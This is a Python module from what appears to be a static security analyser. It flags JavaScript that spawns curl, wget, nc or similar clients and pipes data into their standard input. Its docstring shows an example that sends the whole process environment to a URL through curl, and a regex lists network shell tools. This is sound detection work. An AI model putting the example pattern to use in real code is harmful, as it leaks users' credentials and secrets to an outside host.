"""Data written into the standard input of a spawned network client: `spawn('curl', ['--data-binary', '@-', url])`
then `child.stdin.end(JSON.stringify(process.env))` sends the data to the URL as fetch would. Each such write is
reported as a call of `curl.stdin` with the data (the exfiltration rules list it beside fetch)."""
from __future__ import annotations

import re
from itertools import islice

from ..facts import Call

_WRITES = re.compile(rb"\.stdin\s*\.\s*(?:end|write)\s*\(")
_CLIENTS = re.compile(r"(?i)^(?:\S*[/\\])?(?:curl|wget|nc|ncat|netcat|socat|openssl)(?:\.exe)?$")
_SPAWNERS = frozenset({"child_process.spawn", "child_process.exec", "child_process.execFile"})
MAX_WRITES = 32


def client_stdin_writes(values, source: bytes) -> list:
    out = []
    for match in islice(_WRITES.finditer(source), MAX_WRITES):
        node = values.scopes.locate(match.start() + 1, match.start() + 6)  # `stdin`
        stdin = node.parent if node is not None else None
        member = stdin.parent if stdin is not None else None
        call = member.parent if member is not None else None
        if stdin is None or stdin.type != "member_expression" or call is None or call.type != "call_expression":
            continue
        if not _spawns_client(values, stdin.child_by_field_name("object")):
            continue
        args = call.child_by_field_name("arguments")
        given = tuple(values.ev(a) for a in args.named_children if a.type != "comment") if args is not None else ()
        out.append(Call.at(call, "curl.stdin", given))
    return out


def _spawns_client(values, holder) -> bool:
    """Whether `holder` (a name or a call) is a child process of curl/wget/nc/socat started by spawn/exec/execFile."""
    if holder is None:
        return False
    if holder.type == "identifier":
        bindings = values.scopes.bindings(holder)
        if len(bindings) != 1 or bindings[0][0] != "assign" or not hasattr(bindings[0][1], "type"):
            return False
        holder = bindings[0][1]
    if holder.type != "call_expression" or values.ev(holder.child_by_field_name("function")).name not in _SPAWNERS:
        return False
    args = [a for a in holder.child_by_field_name("arguments").named_children if a.type != "comment"]
    program = values.ev(args[0]).const if args else None
    return isinstance(program, str) and bool(_CLIENTS.match(program.split()[0] if program.split() else ""))
